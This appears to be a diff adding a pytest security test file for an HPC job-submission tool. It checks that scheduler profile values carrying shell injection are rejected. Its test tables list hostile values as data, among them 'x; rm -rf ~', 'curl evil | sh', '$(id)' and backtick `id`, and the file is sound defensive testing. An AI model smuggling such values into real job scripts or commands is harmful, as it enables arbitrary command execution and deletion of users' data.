@@ -1,0 +1,110 @@
+"""HPC security: hostile profile values never reach a job script, and a scheduler that listens
+beyond loopback speaks TLS unless told otherwise (issue 15, items 5 and 6)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import dask.config
+import pytest
+
+import workbench as wb
+from workbench.hpc import job_script, resolve_profile, submit_job
+from workbench.testing import orders_catalog, random_orders, write_customers
+
+KINDS = ("slurm", "pbs", "sge", "lsf")
+
+
+def _orders(tmp_path: Path) -> tuple[Path, wb.Workspace]:
+    data = tmp_path / "data"
+    write_customers(data)
+    random_orders(7, 50).to_csv(data / "orders_1.csv", index=False)
+    path = orders_catalog(tmp_path, data)
+    return path, wb.Workspace.for_catalog(wb.load_catalog(path))
+
+
+# (setting, hostile value, what the error names)
+HOSTILE = [
+    ("queue", "normal\ntouch /tmp/pwned", "queue 'normal\\\\ntouch /tmp/pwned' contains a newline"),
+    ("account", "x; rm -rf ~", "(account|project) 'x; rm -rf ~' contains ';'"),
+    ("account", "x --uid=0", "(account|project) 'x --uid=0' contains a space"),
+    ("job_extra_directives", ["--x=$(id)"], r"job-extra-directives '--x=\$\(id\)' contains '\$'"),
+    ("job_extra_directives", ["-m abe\nid"], "job-extra-directives .* contains a newline"),
+    ("worker_extra_args", ["--foo", "`id`"], "worker-extra-args '`id`' contains '`'"),
+    ("job_script_prologue", ["module load x\ncurl evil | sh"], "job-script-prologue .* newline"),
+    ("local_directory", "$(id)", "local-directory '\\$\\(id\\)' contains '\\$'"),
+    ("walltime", "01:00:00 | id", "walltime .* contains a space"),
+]
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize(("key", "value", "message"), HOSTILE)
+def test_hostile_profile_values_are_refused_naming_key_and_character(kind, key, value, message):
+    profile = {"kind": kind, key.replace("_", "-"): value}
+    with dask.config.set({"workbench.cluster.profiles.evil": profile}):
+        with pytest.raises(wb.ProfileError, match=f"profile 'evil'.*{message}"):
+            resolve_profile("evil", cores=1, memory="1GB")
+        with pytest.raises(wb.ProfileError, match=message):
+            job_script("evil", cores=1, memory="1GB")
+
+
+def test_hostile_values_from_the_jobqueue_config_are_refused_too():
+    with (
+        dask.config.set({"jobqueue.pbs.queue": "q\nid"}),
+        pytest.raises(wb.ProfileError, match=r"jobqueue\.pbs\.queue.*newline"),
+    ):
+        resolve_profile("pbs", cores=1, memory="1GB")
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize(
+    ("option", "value", "message"),
+    [
+        ({"queue": "normal\ntouch {pwned}"}, None, "queue .* contains a newline"),
+        ({"account": "x&touch {pwned}"}, None, "(account|project) .* contains '&'"),
+        ({}, ["--x=$(touch {pwned})"], r"--directive .* contains '\$'"),
+        ({}, ["--comment=ok\ntouch {pwned}"], "--directive .* contains a newline"),
+        ({}, ["--comment=a&touch {pwned}"], "--directive .* contains '&'"),
+    ],
+)
+def test_hostile_submit_writes_and_submits_nothing(tmp_path, kind, option, value, message):
+    path, ws = _orders(tmp_path)
+    pwned = tmp_path / "pwned"
+    overrides = {k: v.format(pwned=pwned) for k, v in option.items()}
+    directives = [d.format(pwned=pwned) for d in value or ()]
+    with pytest.raises(wb.ProfileError, match=message):
+        # not a dry run: were the value let through, sbatch would get the script
+        submit_job(path, ws, profile=kind, cores=1, memory="1GB", directives=directives,
+                   **overrides)  # fmt: skip
+    assert not ws.path("jobs").exists() or not any(ws.path("jobs").iterdir())
+    assert not pwned.exists()
+
+
+def test_hostile_directive_from_the_cli_is_a_usage_error(tmp_path):
+    from typer.testing import CliRunner
+
+    from workbench.cli import app
+
+    path, ws = _orders(tmp_path)
+    done = CliRunner().invoke(
+        app,
+        ["job", "submit", "--catalog", str(path), "--cores", "1", "--memory", "1GB",
+         "--directive", "--x=`id`", "--dry-run"],
+    )  # fmt: skip
+    assert done.exit_code == 2, done.stdout
+    assert "--directive '--x=`id`' contains '`'" in done.stderr
+    assert not ws.path("jobs").exists() or not any(ws.path("jobs").iterdir())
+
+
+def test_ordinary_values_still_pass_and_site_variables_in_paths_are_kept(tmp_path):
+    path, ws = _orders(tmp_path)
+    job = submit_job(
+        path, ws, profile="lsf", cores=2, memory="2GB", queue="short-q.1", account="proj+42",
+        directives=['-R "select[avx2]"', "-m abe"], dry_run=True, walltime="01:00",
+    )  # fmt: skip
+    script = (Path(job.folder) / "job.sh").read_text()
+    assert '#BSUB -R "select[avx2]"' in script and '#BSUB -P "proj+42"' in script
+    site = {"kind": "pbs", "local-directory": "$TMPDIR", "job-script-prologue": ["cd $HOME; ls"]}
+    with dask.config.set({"workbench.cluster.profiles.site": site}):
+        text = job_script("site", cores=1, memory="1GB")
+    assert "--local-directory $TMPDIR" in text and "cd $HOME; ls" in text
